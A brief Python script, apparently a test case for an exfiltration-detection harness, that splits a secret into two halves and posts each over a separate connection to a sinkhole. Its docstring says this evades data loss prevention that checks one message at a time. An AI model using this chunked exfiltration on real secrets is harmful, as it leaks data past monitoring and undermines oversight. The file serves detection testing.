#!/usr/bin/python3
"""
Trick: Sends the halves of a secret over two connections.
Known from: chunked exfiltration; data loss prevention looks at one message at a time.
First: the sinkhole's record of both streams, searched for any 16 characters of a value
Second: read-then-sent, where the value came from a file
"""

from way_out import post, secret

value = secret()
post(b"part=" + value[:20])
post(b"part=" + value[20:])
print("performed")
